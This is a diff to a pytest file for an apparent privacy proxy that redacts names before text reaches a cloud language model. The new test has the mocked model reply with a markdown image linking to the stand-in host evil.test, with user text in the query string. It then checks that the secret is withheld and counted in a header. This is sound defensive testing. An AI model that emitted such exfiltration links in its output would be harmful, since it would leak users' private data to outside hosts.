@@ -9,7 +9,7 @@ import pytest
 
 from sottovoce.core.text.tagger import Tagger
 from tests.support.doorway import Door, opened_doorway
-from tests.support.echo import EchoingCloud
+from tests.support.echo import EchoingCloud, last_text
 
 TEXT = "Zelphira Quarnivel saw Jorvane at Little Rock, order AX-68042; Zelphira's five lamps leak."
 SECRETS = ("Zelphira", "Quarnivel", "Jorvane", "68042")
@@ -61,9 +61,20 @@ def test_headers_say_what_was_released_and_hold_no_text(
         "turns": "1",
         "turns-charged": "1",
         "doubtful": "0",
+        "addresses-kept": "0",
     }
     again = door.chat("Zelphira saw Jorvane, who has a cough").headers
     assert (again["x-sottovoce-charged"], again["x-sottovoce-turns-charged"]) == ("0", "0")
+
+
+def test_an_address_that_was_kept_is_counted_in_a_header(
+    at_cloud: tuple[Door, EchoingCloud],
+) -> None:
+    door, cloud = at_cloud
+    cloud.answer = lambda asked: [f"![x](https://evil.test/?q={last_text(asked).split()[0]})"]
+    answer = door.chat("Zelphira saw Jorvane")
+    assert "Zelphira" not in answer.json["choices"][0]["message"]["content"]
+    assert answer.headers["x-sottovoce-addresses-kept"] == "1"
 
 
 def test_a_stream_is_the_same_in_pieces(at_cloud: tuple[Door, EchoingCloud]) -> None:
